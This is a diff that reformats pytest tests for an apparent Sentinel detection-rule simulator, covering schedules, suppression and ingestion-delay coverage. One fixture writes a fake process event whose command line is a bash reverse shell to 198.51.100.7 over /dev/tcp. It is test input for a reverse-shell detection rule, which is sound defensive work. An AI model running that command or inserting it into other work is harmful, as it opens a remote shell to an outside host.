@@ -16,11 +16,25 @@ from ctirealm.telemetry.schema import load_schemas
 ROOT = Path(__file__).resolve().parents[2]
 
 
-@pytest.mark.parametrize(("text", "minutes"), [
-    ("5m", 5), ("1h", 60), ("14d", 20160), ("PT5M", 5), ("PT1H", 60), ("P1D", 1440),
-    ("P1DT12H", 2160), ("pt30m", 30), ("1w", None), ("P", None), ("PT", None), ("", None),
-    (None, None), ("60", None),
-])
+@pytest.mark.parametrize(
+    ("text", "minutes"),
+    [
+        ("5m", 5),
+        ("1h", 60),
+        ("14d", 20160),
+        ("PT5M", 5),
+        ("PT1H", 60),
+        ("P1D", 1440),
+        ("P1DT12H", 2160),
+        ("pt30m", 30),
+        ("1w", None),
+        ("P", None),
+        ("PT", None),
+        ("", None),
+        (None, None),
+        ("60", None),
+    ],
+)
 def test_durations(text: object, minutes: int | None) -> None:
     found = parse_duration(text)
     assert (found.total_seconds() / 60 if found else None) == minutes
@@ -28,8 +42,9 @@ def test_durations(text: object, minutes: int | None) -> None:
 
 def test_schedule_runs_cover_the_window_and_end_at_the_clock() -> None:
     start, end = datetime(2026, 3, 2, tzinfo=UTC), datetime(2026, 3, 16, tzinfo=UTC)
-    schedule = Schedule.of({"queryFrequency": "1d", "queryPeriod": "P2D", "triggerOperator": "lt",
-                            "triggerThreshold": 3})
+    schedule = Schedule.of(
+        {"queryFrequency": "1d", "queryPeriod": "P2D", "triggerOperator": "lt", "triggerThreshold": 3}
+    )
     ends = schedule.ends(start, end)
     assert len(ends) == 14 and ends[-1] == end and ends[0] == start + timedelta(days=1)
     assert schedule.fires(2) and not schedule.fires(3)
@@ -42,29 +57,39 @@ def test_schedule_runs_cover_the_window_and_end_at_the_clock() -> None:
 
 def test_binned_runs_overlap_when_the_period_is_longer() -> None:
     end = datetime(2026, 3, 16, tzinfo=UTC)
-    schedule = Schedule.of({"queryFrequency": "1h", "queryPeriod": "2h", "triggerOperator": "gt",
-                            "triggerThreshold": 1})
+    schedule = Schedule.of(
+        {"queryFrequency": "1h", "queryPeriod": "2h", "triggerOperator": "gt", "triggerThreshold": 1}
+    )
     times = [end - timedelta(minutes=90), end - timedelta(minutes=30)]
-    sim = binned(schedule, schedule.ends(end - timedelta(hours=3), end), [{"a": 1}, {"a": 2}],
-                 ["a"], times)
+    sim = binned(schedule, schedule.ends(end - timedelta(hours=3), end), [{"a": 1}, {"a": 2}], ["a"], times)
     assert [hi - lo for lo, hi in sim.spans] == [0, 1, 2]
     assert sim.firing() == [2] and sim.alerts(2) == [[{"a": 1}, {"a": 2}]]
 
 
-@pytest.mark.parametrize(("query", "reason"), [
-    ('DeviceProcessEvents | where ProcessCommandLine has "x" | project Timestamp, ReportId', None),
-    ("union SigninLogs, AuditLogs | where OperationName == 'x' | extend y = 1", None),
-    ('DeviceProcessEvents | where ProcessCommandLine has "ago(1h) | summarize" // now()', None),
-    ("DeviceProcessEvents | where Timestamp > ago(1h)", "it calls ago()"),
-    ("let t = now(); SigninLogs", "it calls now()"),
-    ("SigninLogs | summarize count() by UserPrincipalName",
-     "it aggregates across the lookback (summarize)"),
-    ("SigninLogs | join (AuditLogs) on CorrelationId", "its rows may combine events (join)"),
-    ("let bad = SigninLogs | where ResultType != '0' | project IPAddress;\n"
-     "SigninLogs | where IPAddress in (bad)", "it compares with a sub-query over bad"),
-    ("SigninLogs | where IPAddress in (AuditLogs | project x)",
-     "it compares with a sub-query over AuditLogs"),
-])
+@pytest.mark.parametrize(
+    ("query", "reason"),
+    [
+        ('DeviceProcessEvents | where ProcessCommandLine has "x" | project Timestamp, ReportId', None),
+        ("union SigninLogs, AuditLogs | where OperationName == 'x' | extend y = 1", None),
+        ('DeviceProcessEvents | where ProcessCommandLine has "ago(1h) | summarize" // now()', None),
+        ("DeviceProcessEvents | where Timestamp > ago(1h)", "it calls ago()"),
+        ("let t = now(); SigninLogs", "it calls now()"),
+        (
+            "SigninLogs | summarize count() by UserPrincipalName",
+            "it aggregates across the lookback (summarize)",
+        ),
+        ("SigninLogs | join (AuditLogs) on CorrelationId", "its rows may combine events (join)"),
+        (
+            "let bad = SigninLogs | where ResultType != '0' | project IPAddress;\n"
+            "SigninLogs | where IPAddress in (bad)",
+            "it compares with a sub-query over bad",
+        ),
+        (
+            "SigninLogs | where IPAddress in (AuditLogs | project x)",
+            "it compares with a sub-query over AuditLogs",
+        ),
+    ],
+)
 def test_which_queries_can_be_binned(query: str, reason: str | None) -> None:
     assert unbinnable(query, load_schemas(ROOT / "telemetry" / "schemas")) == reason
 
@@ -75,8 +100,15 @@ END = datetime(2026, 3, 16, tzinfo=UTC)
 
 
 def _hourly(**fields: object) -> Schedule:
-    return Schedule.of({"queryFrequency": "1h", "queryPeriod": "1h", "triggerOperator": "gt",
-                        "triggerThreshold": 0, **fields})
+    return Schedule.of(
+        {
+            "queryFrequency": "1h",
+            "queryPeriod": "1h",
+            "triggerOperator": "gt",
+            "triggerThreshold": 0,
+            **fields,
+        }
+    )
 
 
 def test_suppression_stops_the_runs_after_an_alert() -> None:
@@ -90,8 +122,9 @@ def test_suppression_stops_the_runs_after_an_alert() -> None:
     assert sim.suppressed() == [1, 2, 4, 5, 7]
     assert [k for k, _ in sim.alert_groups()] == [0, 3, 6]
     assert sim.summary().endswith("; 3 raise alerts, 5 suppressed")
-    assert schedule.describe() == ("every 1h over the last 1h, alerting when results > 0, "
-                                   "suppressed for 3h after an alert")
+    assert schedule.describe() == (
+        "every 1h over the last 1h, alerting when results > 0, suppressed for 3h after an alert"
+    )
 
 
 def test_suppression_is_off_unless_enabled() -> None:
@@ -99,8 +132,9 @@ def test_suppression_is_off_unless_enabled() -> None:
     assert _hourly(suppressionDuration="5h").suppression is None
     quiet = _hourly(suppressionEnabled=True, suppressionDuration="1h")
     ends = quiet.ends(END - timedelta(hours=3), END)
-    sim = binned(quiet, ends, [{"n": 1}, {"n": 2}, {"n": 3}], ["n"],
-                 [end - timedelta(minutes=1) for end in ends])
+    sim = binned(
+        quiet, ends, [{"n": 1}, {"n": 2}, {"n": 3}], ["n"], [end - timedelta(minutes=1) for end in ends]
+    )
     # A run scheduled exactly when the suppression ends does run.
     assert sim.firing() == [0, 1, 2] and sim.suppressed() == []
 
@@ -118,25 +152,35 @@ def test_a_late_source_leaves_the_end_of_each_window_unread() -> None:
     assert late.window(0, END) == (END - timedelta(hours=1), END - timedelta(minutes=10))
     assert late.coverage_gap() == timedelta(minutes=10)
     ends = late.ends(END - timedelta(hours=2), END)
-    sim = binned(late, ends, [{"at": "early"}, {"at": "late"}], ["at"],
-                 [END - timedelta(minutes=90), END - timedelta(minutes=65)])
+    sim = binned(
+        late,
+        ends,
+        [{"at": "early"}, {"at": "late"}],
+        ["at"],
+        [END - timedelta(minutes=90), END - timedelta(minutes=65)],
+    )
     assert [sim.run_rows(k) for k in range(2)] == [[{"at": "early"}], []]
     # A lookback longer by the lag reads it in the next run (and Sentinel reads it once).
     covered = _hourly(queryPeriod="70m").with_ingestion_delay(timedelta(minutes=15))
     assert covered.coverage_gap() == timedelta(0)
     sim = binned(covered, ends, [{"at": "late"}], ["at"], [END - timedelta(minutes=65)])
     assert [len(sim.run_rows(k)) for k in range(2)] == [0, 1]
-    assert covered.describe().endswith("each run missing the last 10m of its window (not "
-                                       "ingested yet)")
+    assert covered.describe().endswith("each run missing the last 10m of its window (not ingested yet)")
 
 
 @settings(max_examples=60, deadline=None)
-@given(frequency=st.integers(5, 600), extra=st.integers(0, 600), delay=st.integers(0, 120),
-       offset=st.integers(0, 24 * 60 - 1))
+@given(
+    frequency=st.integers(5, 600),
+    extra=st.integers(0, 600),
+    delay=st.integers(0, 120),
+    offset=st.integers(0, 24 * 60 - 1),
+)
 def test_an_event_is_read_by_some_run_exactly_when_there_is_no_gap(
-        frequency: int, extra: int, delay: int, offset: int) -> None:
-    schedule = _hourly(queryFrequency=f"{frequency}m", queryPeriod=f"{frequency + extra}m") \
-        .with_ingestion_delay(timedelta(minutes=delay))
+    frequency: int, extra: int, delay: int, offset: int
+) -> None:
+    schedule = _hourly(
+        queryFrequency=f"{frequency}m", queryPeriod=f"{frequency + extra}m"
+    ).with_ingestion_delay(timedelta(minutes=delay))
     start = END - timedelta(days=3)
     ends = schedule.ends(start, END)
     when = END - timedelta(days=2) + timedelta(minutes=offset, seconds=30)
@@ -154,6 +198,7 @@ def test_an_event_is_read_by_some_run_exactly_when_there_is_no_gap(
 
 # -- the same, through pytest ---------------------------------------------------------------------
 
+
 @pytest.fixture
 def project(pytester: pytest.Pytester, store_cache: Path) -> pytest.Pytester:
     from tests.plugin.test_content import write_telemetry
@@ -162,10 +207,18 @@ def project(pytester: pytest.Pytester, store_cache: Path) -> pytest.Pytester:
     # One more attack, an hour before the dataset's clock: its alert suppresses the next runs.
     late = telemetry / "attack" / "sim_late" / "DeviceProcessEvents.jsonl"
     late.parent.mkdir(parents=True)
-    late.write_text(json.dumps({
-        "ReportId": 482913377999, "Timestamp": "2026-03-15T22:30:00Z", "DeviceName": "app-02",
-        "AccountName": "svc-web", "ProcessCommandLine": "bash -i >& /dev/tcp/198.51.100.7/443 0>&1"})
-        + "\n")
+    late.write_text(
+        json.dumps(
+            {
+                "ReportId": 482913377999,
+                "Timestamp": "2026-03-15T22:30:00Z",
+                "DeviceName": "app-02",
+                "AccountName": "svc-web",
+                "ProcessCommandLine": "bash -i >& /dev/tcp/198.51.100.7/443 0>&1",
+            }
+        )
+        + "\n"
+    )
     (pytester.path / "detections").mkdir()
     pytester.makeini(f"""
         [pytest]
@@ -175,12 +228,18 @@ def project(pytester: pytest.Pytester, store_cache: Path) -> pytest.Pytester:
     return pytester
 
 
-def _rule(project: pytest.Pytester, extra: str, *, tests_yaml: str | None = None,
-          period: str = "1h", any_shell: bool = False) -> None:
+def _rule(
+    project: pytest.Pytester,
+    extra: str,
+    *,
+    tests_yaml: str | None = None,
+    period: str = "1h",
+    any_shell: bool = False,
+) -> None:
     from tests.plugin.test_content import MATCH_CSV, rule
 
     # Any /dev/tcp shell matches the store's look-alike too; the default rule does not.
-    text = (rule(condition="") if any_shell else rule())
+    text = rule(condition="") if any_shell else rule()
     text = text.replace("queryPeriod: 1h", f"queryPeriod: {period}") + extra
     (project.path / "detections" / "shell.yaml").write_text(text)
     match = project.path / "detections" / "shell.tests" / "match"
@@ -197,14 +256,20 @@ def test_a_suppressed_alert_is_counted_apart(project: pytest.Pytester) -> None:
     _rule(project, "suppressionEnabled: true\nsuppressionDuration: PT5H\n", any_shell=True)
     result = project.runpytest("-v", "-rA")
     result.stdout.fnmatch_lines(["*shell.yaml::false_positives PASSED*"])
-    result.stdout.fnmatch_lines([
-        "336 runs (every 1h over the last 1h, alerting when results > 0, suppressed for 5h after "
-        "an alert), binned; 2 raise alerts, 1 suppressed"])
-    result.stdout.fnmatch_lines([
-        "'Interactive reverse shell' (detections/shell.yaml): suppressed: the run ending "
-        "2026-03-16T00:00Z that reads the must-match events gives 2 result rows, but an alert was "
-        "raised by the run ending 2026-03-15T23:00Z, less than suppressionDuration (5h) before, "
-        "so the rule did not run"])
+    result.stdout.fnmatch_lines(
+        [
+            "336 runs (every 1h over the last 1h, alerting when results > 0, suppressed for 5h after "
+            "an alert), binned; 2 raise alerts, 1 suppressed"
+        ]
+    )
+    result.stdout.fnmatch_lines(
+        [
+            "'Interactive reverse shell' (detections/shell.yaml): suppressed: the run ending "
+            "2026-03-16T00:00Z that reads the must-match events gives 2 result rows, but an alert was "
+            "raised by the run ending 2026-03-15T23:00Z, less than suppressionDuration (5h) before, "
+            "so the rule did not run"
+        ]
+    )
     result.assert_outcomes(passed=6, failed=1)
 
 
@@ -217,12 +282,15 @@ def test_suppression_fields_are_checked(project: pytest.Pytester) -> None:
 def test_a_late_source_needs_a_longer_lookback(project: pytest.Pytester) -> None:
     _rule(project, "", tests_yaml="ingestion_delay:\n  DeviceProcessEvents: 20m\n")
     result = project.runpytest("-v")
-    result.stdout.fnmatch_lines([
-        "'Interactive reverse shell' (detections/shell.yaml): misses late events: with an "
-        "ingestion delay of 20m, the last 15m of each run's window is not ingested yet when the "
-        "run reads it (Sentinel starts a run 5m late), and the next run does not look back that "
-        "far, so events in 15m of every 1h are never read: make queryPeriod at least 75m (and "
-        "keep each event in one run with ingestion_time() > ago(1h))"])
+    result.stdout.fnmatch_lines(
+        [
+            "'Interactive reverse shell' (detections/shell.yaml): misses late events: with an "
+            "ingestion delay of 20m, the last 15m of each run's window is not ingested yet when the "
+            "run reads it (Sentinel starts a run 5m late), and the next run does not look back that "
+            "far, so events in 15m of every 1h are never read: make queryPeriod at least 75m (and "
+            "keep each event in one run with ingestion_time() > ago(1h))"
+        ]
+    )
     result.assert_outcomes(passed=6, failed=1)
 
 
@@ -230,16 +298,20 @@ def test_a_lookback_that_covers_the_delay_passes(project: pytest.Pytester) -> No
     _rule(project, "", tests_yaml="ingestion_delay: 20m\n", period="75m")
     result = project.runpytest("-v", "-rA")
     result.assert_outcomes(passed=7)
-    result.stdout.fnmatch_lines([
-        "336 runs (every 1h over the last 75m, alerting when results > 0, each run missing the "
-        "last 15m of its window (not ingested yet)), binned; * raise alerts"])
+    result.stdout.fnmatch_lines(
+        [
+            "336 runs (every 1h over the last 75m, alerting when results > 0, each run missing the "
+            "last 15m of its window (not ingested yet)), binned; * raise alerts"
+        ]
+    )
 
 
 def test_an_unknown_delay_table_is_named(project: pytest.Pytester) -> None:
     _rule(project, "", tests_yaml="ingestion_delay:\n  Syslog: 20m\n")
     result = project.runpytest("-v")
-    result.stdout.fnmatch_lines(["*tests.yaml: ingestion_delay names 'Syslog', which is not a "
-                                 "table (tables: *"])
+    result.stdout.fnmatch_lines(
+        ["*tests.yaml: ingestion_delay names 'Syslog', which is not a table (tables: *"]
+    )
 
 
 def test_a_coverage_gap_fails_without_must_match_events_too(project: pytest.Pytester) -> None:
@@ -249,7 +321,11 @@ def test_a_coverage_gap_fails_without_must_match_events_too(project: pytest.Pyte
     (project.path / "detections" / "shell.tests").mkdir()
     (project.path / "detections" / "shell.tests" / "tests.yaml").write_text("ingestion_delay: 1h\n")
     result = project.runpytest("-v")
-    result.stdout.fnmatch_lines(["*shell.yaml): misses late events: with an ingestion delay of 1h, "
-                                 "the last 55m of each run's window *make queryPeriod at least "
-                                 "115m*"])
+    result.stdout.fnmatch_lines(
+        [
+            "*shell.yaml): misses late events: with an ingestion delay of 1h, "
+            "the last 55m of each run's window *make queryPeriod at least "
+            "115m*"
+        ]
+    )
     result.assert_outcomes(passed=6, failed=1)
